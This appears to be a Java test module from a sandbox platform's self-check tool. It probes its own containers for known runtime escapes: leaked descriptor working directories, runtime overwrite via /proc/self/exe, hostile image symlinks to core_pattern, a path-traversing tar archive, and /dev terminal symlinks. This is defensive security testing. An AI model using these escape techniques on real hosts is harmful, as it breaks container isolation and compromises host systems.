package dev.atoll.doctor.attack;

import dev.atoll.cells.process.Command;
import dev.atoll.doctor.attack.Probe.Trial;
import dev.atoll.sdk.AtollException;
import dev.atoll.sdk.Image;
import dev.atoll.sdk.Sandbox;
import dev.atoll.sdk.SandboxProcess;
import io.grpc.StatusRuntimeException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/** Ways out that container runtimes have had, by descriptors, programs and images. */
final class EscapeProbes {
  private static final String GROUP = "known escapes";
  private static final String HOSTILE = "attack-hostile:1";
  private static final int LEAKED_DESCRIPTORS = 12;

  private EscapeProbes() {}

  static List<Probe> all() {
    return List.of(
        new Probe("leaked-folder", GROUP, EscapeProbes::leakedFolder),
        new Probe("leaked-folder-create", GROUP, EscapeProbes::leakedFolderCreate),
        new Probe("program-overwrite", GROUP, EscapeProbes::programOverwrite),
        new Probe("image-links", GROUP, EscapeProbes::imageLinks),
        new Probe("image-archive", GROUP, EscapeProbes::imageArchive),
        new Probe("terminal-symlink", GROUP, EscapeProbes::terminalSymlink));
  }

  /** CVE-2024-21626: a working directory by a descriptor that the runtime forgot to close. */
  private static Trial.Result leakedFolder(Scene scene) throws Exception {
    Outcome outcome = Outcome.refused("none was tried");
    for (int fd = 3; fd < 3 + LEAKED_DESCRIPTORS; fd++) {
      String folder = "/proc/self/fd/" + fd;
      Outcome one;
      try {
        SandboxProcess process =
            scene
                .attacker()
                .sandbox()
                .exec(List.of("/tmp/attack", "folder-outside"), options -> options.workdir(folder));
        one =
            Outcome.parse(process.readText())
                .orElseGet(() -> Outcome.refused("the process did not start there"));
      } catch (AtollException refused) {
        one = Outcome.refused(String.valueOf(refused.getMessage()));
      }
      outcome = outcome.succeeded() ? outcome : one;
    }
    return new Trial.Result(outcome, leaving(scene));
  }

  private static Control leaving(Scene scene) throws Exception {
    return ProgramProbes.control(scene.program(), "folder-outside", "jail");
  }

  /** The same for a sandbox's main process. */
  private static Trial.Result leakedFolderCreate(Scene scene) throws Exception {
    Outcome outcome;
    try (Sandbox sandbox =
        scene.sandbox(
            options ->
                options
                    .workdir("/proc/self/fd/7")
                    .command("stat", "-c", "%d:%i", "/", "../".repeat(20)))) {
      List<String> roots = sandbox.stdoutReader().readAllLines();
      outcome =
          roots.stream().distinct().count() > 1
              ? Outcome.succeeded("the main process started outside of its root")
              : Outcome.refused("the main process ended with " + sandbox.waitFor());
    } catch (AtollException refused) {
      outcome = Outcome.refused(String.valueOf(refused.getMessage()));
    }
    return new Trial.Result(outcome, leaving(scene));
  }

  /** CVE-2019-5736: what starts a process becomes the program that the sandbox chose. */
  private static Trial.Result programOverwrite(Scene scene) throws Exception {
    scene.attacker().shell("printf '#!/proc/self/exe\\n' > /tmp/itself; chmod 755 /tmp/itself");
    SandboxProcess hunter = scene.attacker().start(List.of("program-overwrite", "1500"));
    for (int i = 0; i < 12; i++) {
      try {
        var unused = scene.attacker().sandbox().exec("/tmp/itself").waitFor();
      } catch (AtollException refused) {
        continue;
      }
    }
    Outcome outcome =
        Outcome.parse(hunter.readText())
            .orElseThrow(() -> new IOException("the hunter said nothing"));
    return new Trial.Result(
        outcome, ProgramProbes.control(scene.program(), "program-overwrite", "1500", "copy"));
  }

  /**
   * CVE-2025-31133 and its like: links of an image where a runtime mounts, masks and writes. The
   * sandbox may start or not; what it starts with must be masked as ever, and the host unchanged.
   */
  private static Trial.Result imageLinks(Scene scene) throws Exception {
    Path target = scene.canary().file();
    Path root = TinyRoot.hostile(scene.folder().resolve("hostile"), target);
    String before = Files.readString(Path.of("/proc/sys/kernel/core_pattern"));
    Outcome outcome;
    try {
      scene.api().importImage(root, HOSTILE);
      Image image = scene.atoll().images().fromRegistry(HOSTILE).build(scene.app());
      try (Sandbox sandbox = scene.sandbox(image, options -> {})) {
        Box box = Box.of(sandbox);
        outcome = Outcome.refused("it started, with everything masked");
        for (String probe :
            List.of(
                "proc-core-pattern",
                "proc-machine-state",
                "proc-sys-kernel",
                "sys-debug",
                "agent-dock",
                "mount-remount")) {
          Outcome one = box.attack(probe);
          outcome = one.succeeded() ? one : outcome;
        }
      }
    } catch (AtollException | StatusRuntimeException refused) {
      outcome = Outcome.refused(String.valueOf(refused.getMessage()));
    }
    boolean changed =
        !scene.canary().isUntouched()
            || !Files.readString(Path.of("/proc/sys/kernel/core_pattern")).equals(before);
    return new Trial.Result(
        changed ? Outcome.succeeded("a file of the host was changed") : outcome,
        Files.readString(root.resolve("etc/hosts")).equals(scene.canary().content())
            ? Control.real("followed on the host, the image's links lead to the file")
            : Control.construction("the image's links name a file of the host"));
  }

  /** An archive whose names climb out of the folder that it is unpacked in. */
  private static Trial.Result imageArchive(Scene scene) throws Exception {
    Path folder = Files.createDirectories(scene.folder().resolve("archive"));
    Path escaped = Files.createDirectories(folder.resolve("escaped"));
    Path source = Files.createDirectories(folder.resolve("source"));
    Files.writeString(source.resolve("file"), "escaped");
    String up = "../".repeat(20) + escaped.toString().substring(1) + "/";
    Path archive = folder.resolve("evil.tar");
    var made =
        Command.of(
                "tar",
                "-C",
                source.toString(),
                "-cPf",
                archive.toString(),
                "--transform",
                "s,^,%s,".formatted(up),
                "file")
            .run();
    Outcome outcome;
    try {
      scene.api().importImage(archive, "attack-archive:1");
      outcome = Outcome.refused("it was unpacked inside its own folder");
    } catch (StatusRuntimeException refused) {
      outcome = Outcome.refused(String.valueOf(refused.getMessage()));
    }
    if (Files.exists(escaped.resolve("file"))) {
      outcome = Outcome.succeeded("a file was written outside of the layer");
    }
    Path scratch = Files.createDirectories(folder.resolve("scratch"));
    var unpacked = Command.of("tar", "-C", scratch.toString(), "-xPf", archive.toString()).run();
    return new Trial.Result(
        outcome,
        Control.of(
            "unpacked by 'tar -P'",
            Files.deleteIfExists(escaped.resolve("file"))
                ? Outcome.succeeded("the file is written elsewhere")
                : Outcome.refused("no file is written elsewhere")));
  }

  /** CVE-2025-52565: links in place of the terminals that are opened or mounted for a process. */
  private static Trial.Result terminalSymlink(Scene scene) throws Exception {
    Path pattern = Path.of("/proc/sys/kernel/core_pattern");
    String before = Files.readString(pattern);
    List<String> said = new ArrayList<>();
    try (Sandbox sandbox = scene.sandbox(options -> {})) {
      Box box = Box.of(sandbox);
      box.shell(
          "for name in console ptmx tty pts; do mv /dev/$name /dev/old-$name 2>/dev/null; "
              + "ln -sf /proc/sys/kernel/core_pattern /dev/$name 2>/dev/null; done; true");
      try {
        SandboxProcess process = sandbox.exec(List.of("tty"), options -> options.pty(true));
        said.add(process.readText().strip());
      } catch (AtollException refused) {
        said.add(String.valueOf(refused.getMessage()));
      }
      Outcome written = box.attack("proc-core-pattern");
      return new Trial.Result(
          written.succeeded() || !Files.readString(pattern).equals(before)
              ? Outcome.succeeded("core_pattern can be written: " + written.reason())
              : Outcome.refused("a terminal is still a terminal: " + said),
          ProgramProbes.control(scene.program(), "proc-core-pattern"));
    }
  }
}
